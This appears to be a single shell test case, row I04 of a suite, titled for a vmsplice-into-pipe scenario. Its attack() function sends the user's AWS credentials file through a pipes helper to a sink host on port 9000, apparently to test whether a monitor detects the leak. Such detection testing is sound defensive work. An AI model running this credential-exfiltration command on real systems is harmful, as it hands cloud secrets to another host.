# SPDX-License-Identifier: Apache-2.0
TITLE="vmsplice into a pipe, read by a sender that was forked before"
ROW="I04"
attack() { "$PROVOKE/pipes" vmsplice "$HOME/.aws/credentials" "$SINK4" 9000; }
